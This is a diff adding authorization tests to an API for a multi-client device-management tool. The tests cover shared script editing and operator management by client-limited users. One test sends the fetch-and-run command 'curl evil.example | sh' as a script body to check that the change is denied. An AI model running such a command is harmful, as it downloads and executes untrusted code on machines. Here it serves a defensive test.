@@ -444,6 +444,53 @@ describe('client-limited access (/api/v3)', () => {
     });
   });
 
+  describe('scripts (one library for every client)', () => {
+    it("lets a limited caller read, run and make scripts, but not change the code of one another client's checks or tasks run", async () => {
+      expect((await t.http.get(`/api/v3/scripts/${scriptId}/`).set(asTech())).status).toBe(200);
+      // 'Health' runs in tasks of both clients: its code would run on Beta's agents.
+      const shared = await t.http.patch(`/api/v3/scripts/${scriptId}/`).set(asTech()).send({ body: 'curl evil.example | sh' });
+      expect(shared.status).toBe(403);
+      expect(shared.body).toEqual({ detail: 'permission denied' });
+      expect((await t.http.get(`/api/v3/scripts/${scriptId}/`).set(admin())).body.body).toBe('exit 0');
+      // Its name is not code: allowed.
+      expect((await t.http.patch(`/api/v3/scripts/${scriptId}/`).set(asTech()).send({ description: 'health probe' })).status).toBe(200);
+      // A script only Alpha's things run, or none: its code is theirs to change.
+      const own = (await t.http.post('/api/v3/scripts/').set(asTech()).send({ name: 'Alpha only', shell: 'bash', body: 'echo a' })).body.id as number;
+      expect((await t.http.post('/api/v3/tasks/').set(asTech()).send({ name: 'Alpha nightly', agent: String(a.agent), script: own, schedule: '0 4 * * *' })).status).toBe(201);
+      expect((await t.http.patch(`/api/v3/scripts/${own}/`).set(asTech()).send({ body: 'echo b' })).status).toBe(200);
+      // Deleting a script in use says so without counting other clients' checks and tasks.
+      const del = await t.http.delete(`/api/v3/scripts/${scriptId}/`).set(asTech());
+      expect(del.status).toBe(400);
+      expect(del.body).toEqual({ detail: `script ${scriptId} is in use by checks or tasks: remove them first` });
+      // The unlimited admin may change it.
+      expect((await t.http.patch(`/api/v3/scripts/${scriptId}/`).set(admin()).send({ body: 'exit 0' })).status).toBe(200);
+    });
+  });
+
+  describe('operators', () => {
+    it('lets a limited admin manage only operators within its own clients', async () => {
+      const asLimited = { 'X-API-KEY': limitedAdmin };
+      const unlimited = await t.http.post('/api/v3/operators/').set(admin()).send({ email: 'boss@msp.example', password: 'long enough pw', role: 'admin' });
+      expect(unlimited.status).toBe(201);
+      const escape = await t.http.post('/api/v3/operators/').set(asLimited).send({ email: 'escape@msp.example', password: 'long enough pw', role: 'admin' });
+      expect(escape.status).toBe(400);
+      expect(escape.body.errors).toEqual([{ field: 'clients', message: expect.stringContaining('required') }]);
+      const theirs = await t.http.post('/api/v3/operators/').set(asLimited).send({ email: 'beta@msp.example', password: 'long enough pw', role: 'viewer', clients: [b.clientId] });
+      expect(theirs.body.errors).toEqual([{ field: 'clients', message: `no client with id ${b.clientId}` }]);
+      const mine = await t.http.post('/api/v3/operators/').set(asLimited).send({ email: 'alpha@msp.example', password: 'long enough pw', role: 'technician', clients: [a.clientId] });
+      expect(mine.status).toBe(201);
+      // The unlimited admin does not exist for it: no list entry, no password change (no take-over).
+      const list = await t.http.get('/api/v3/operators/').set(asLimited);
+      expect(list.body.map((o: { email: string }) => o.email)).toEqual(['alpha@msp.example']);
+      const takeover = await t.http.patch(`/api/v3/operators/${unlimited.body.id}/`).set(asLimited).send({ password: 'attacker chosen pw' });
+      expect(takeover.status).toBe(404);
+      expect((await t.http.post(`/api/v3/operators/${unlimited.body.id}/totp`).set(asLimited)).status).toBe(404);
+      const widen = await t.http.patch(`/api/v3/operators/${mine.body.id}/`).set(asLimited).send({ clients: null });
+      expect(widen.status).toBe(400);
+      expect((await t.http.patch(`/api/v3/operators/${mine.body.id}/`).set(asLimited).send({ role: 'viewer' })).body.role).toBe('viewer');
+    });
+  });
+
   it('treats an operator limited to client A as a key limited to A (the services, given its principal)', async () => {
     const operator: Principal = { kind: 'operator', id: 1, name: 'tech@alpha.example', scopes: ROLE_SCOPES.technician, clients: [a.clientId], expiresAt: null, secretHash: null, sessionId: 'session' };
     const clients = clientFilter(operator);
